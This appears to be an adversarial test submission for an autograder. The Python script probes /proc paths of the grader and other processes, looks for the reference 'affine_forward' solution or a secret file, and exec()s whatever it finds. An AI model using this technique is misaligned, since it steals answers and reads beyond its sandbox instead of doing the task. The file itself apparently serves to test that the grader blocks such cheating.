# D affine: looks through /proc at the open files and folders of the grader and of every other process. expect: error not_implemented, 0 points; only confined; stolen in process
import os

candidates = []
for pid in ["@pid@", str(os.getppid()), "1"]:
    candidates += [f"/proc/{pid}/root@canary@/secret.py", f"/proc/{pid}/cwd/solutions/foundations/affine.py"]
    try:
        candidates += [f"/proc/{pid}/fd/{name}" for name in os.listdir(f"/proc/{pid}/fd")]
    except OSError:
        pass
for path in candidates:
    try:
        if os.path.isfile(path):
            source = open(path).read(1 << 16)
            if "def affine_forward" in source:
                exec(source)
    except (OSError, ValueError):
        pass
